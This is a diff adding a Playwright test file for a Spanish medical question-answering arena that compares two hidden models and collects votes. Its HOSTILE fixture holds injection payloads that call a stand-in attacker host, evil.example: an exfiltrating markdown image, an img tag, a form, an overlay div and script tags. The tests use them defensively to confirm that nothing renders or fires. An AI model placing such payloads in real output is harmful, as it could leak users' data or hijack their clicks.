@@ -1,0 +1,175 @@
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from space import texts_es
+from tests.conftest import ROOT
+from tests.space_fixtures import Served, label, served, write_built, write_config
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
+
+CHROMIUM = Path("/usr/bin/chromium")
+SCREENSHOTS = ROOT / "build" / "screenshots"
+SIZES = {"desktop": (1280, 900), "phone": (390, 844)}
+# A page on this machine is all it may open, and as root it has no sandbox.
+ARGUMENTS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+    "--no-proxy-server",
+]
+NAMES = ("ficha-oculta-1", "curada-oculta-2")
+CONTESTANTS = [{"name": NAMES[0], "kind": "ficha"}, {"name": NAMES[1], "kind": "curada"}]
+DOSE = "Tome 3,25 mg los martes. No exceda 6,5 mg por semana, salvo por indicación de un médico."
+HOSTILE = (
+    "![x](http://evil.example/?q=secreto) <img src='http://evil.example/a.png'> "
+    "<form action='http://evil.example'><input></form> <div style='position:fixed;inset:0'>tapa</div> "
+    "[pulse](javascript:alert(1)) http://evil.example/auto www.evil.example <script>alert(1)</script>"
+)
+
+pytestmark = pytest.mark.skipif(
+    not CHROMIUM.exists(), reason=f"no browser: {CHROMIUM} is not installed (apt-get install chromium)"
+)
+
+
+@pytest.fixture(scope="module")
+def space(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    dose = {"dosage_and_administration": DOSE}
+    rows = [
+        *label("ZORBAXILIN", dose, flags=["sample"]),
+        *label("HOSTILIN", {"dosage_and_administration": HOSTILE}),
+    ]
+    qa = [{"question": "¿Qué es el asma?", "answer": "Una enfermedad de los bronquios.", "licence": "mit"}]
+    built = write_built(tmp_path_factory.mktemp("built"), {"openfda": rows, "qa": qa})
+    with served(write_config(tmp_path_factory.mktemp("space"), CONTESTANTS, built)) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator["Browser"]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGUMENTS)
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture
+def requests() -> list[str]:
+    return []
+
+
+@pytest.fixture(params=SIZES)
+def page(
+    request: pytest.FixtureRequest, browser: "Browser", space: Served, requests: list[str]
+) -> Iterator["Page"]:
+    width, height = SIZES[request.param]
+    context = browser.new_context(viewport={"width": width, "height": height}, locale="es-ES")
+    opened = context.new_page()
+    opened.on("request", lambda each: requests.append(each.url))
+    opened.goto(space.url)
+    opened.wait_for_selector("#ask")
+    yield opened
+    context.close()
+
+
+def _ask(page: "Page", question: str) -> None:
+    page.fill("#question textarea", question)
+    page.click("#ask")
+    page.wait_for_selector("#vote-left:enabled")
+
+
+@pytest.fixture
+def shoot(page: "Page", request: pytest.FixtureRequest) -> Callable[[str], None]:
+    """Save a picture for a person to look at, and say where it is, captured output or not."""
+
+    def shoot(name: str) -> None:
+        path = _picture(page, name)
+        request.config.get_terminal_writer().line(f" screenshot: {path.relative_to(ROOT)}")
+
+    return shoot
+
+
+def _picture(page: "Page", name: str) -> Path:
+    width = page.viewport_size["width"] if page.viewport_size else 0
+    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+    path = SCREENSHOTS / f"arena-{width}-{name}.png"
+    page.screenshot(path=path)
+    return path
+
+
+def _in_view(page: "Page", selector: str) -> bool:
+    box = page.locator(selector).bounding_box()
+    size = page.viewport_size
+    assert size is not None
+    return box is not None and box["y"] >= 0 and box["y"] + box["height"] <= size["height"]
+
+
+def test_a_visitor_asks_sees_both_answers_votes_and_sees_who_wrote_them(
+    page: "Page", space: Served, requests: list[str], shoot: Callable[[str], None]
+) -> None:
+    shoot("1-start")
+    assert page.locator("#vote-left").is_disabled()
+    assert page.locator("#ask").is_enabled()
+    _ask(page, "¿Cuál es la dosis de zorbaxilina?")
+    shoot("2-answers")
+    answers = [page.inner_text("#answer-left"), page.inner_text("#answer-right")]
+    assert any(f"«{DOSE}» [1]" in answer for answer in answers)
+    assert texts_es.CURATED_NONE in [answer.strip() for answer in answers]
+    assert not any(name in page.content() for name in NAMES), "the models are hidden before the vote"
+    assert _in_view(page, "#vote-left"), "the vote can be reached without scrolling"
+    votes = len(space.votes())
+    page.click("#vote-right")
+    page.wait_for_selector("#reveal")
+    page.wait_for_timeout(400)  # the page scrolls to what is revealed; only the picture waits for it
+    shoot("3-reveal")
+    assert page.inner_text("#status").strip() == texts_es.STATUS_SAVED
+    assert all(name in page.inner_text("#reveal") for name in NAMES)
+    assert all(page.locator(f"#vote-{choice}").is_disabled() for choice in texts_es.CHOICES)
+    assert len(space.votes()) == votes + 1
+    assert [url for url in requests if not url.startswith((space.url, "data:", "blob:"))] == []
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), (
+        "nothing is wider than the page"
+    )
+    assert page.evaluate("document.documentElement.lang") == "es"
+
+
+def test_a_new_question_starts_from_an_empty_page(page: "Page") -> None:
+    _ask(page, "¿Qué es el asma?")
+    page.click("#vote-tie")
+    page.wait_for_selector("#reveal")
+    page.click("#again")
+    page.wait_for_selector("#reveal", state="hidden")
+    assert page.input_value("#question textarea") == ""
+    assert page.inner_text("#answer-left").strip() == texts_es.ANSWER_EMPTY.strip("*")
+    assert page.locator("#vote-left").is_disabled()
+
+
+def test_enter_asks(page: "Page") -> None:
+    page.fill("#question textarea", "¿Qué es el asma?")
+    page.press("#question textarea", "Enter")
+    page.wait_for_selector("#vote-left:enabled")
+
+
+def test_nothing_in_a_hostile_answer_fires(page: "Page", space: Served, requests: list[str]) -> None:
+    _ask(page, "dosis de hostilina")
+    answers = page.inner_text("#answer-left") + page.inner_text("#answer-right")
+    assert "![x](http://evil.example/?q=secreto)" in answers, "it is shown as text"
+    for side in ("left", "right"):
+        assert (
+            page.locator(f"#answer-{side}").locator("img, form, a, script, iframe, [style*=fixed]").count()
+            == 0
+        )
+    assert [url for url in requests if "evil" in url] == []
+    assert page.evaluate(
+        "() => { const box = document.getElementById('vote-left').getBoundingClientRect();"
+        "  const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);"
+        "  return document.getElementById('vote-left').contains(top) }"
+    ), "nothing lies over the vote buttons"
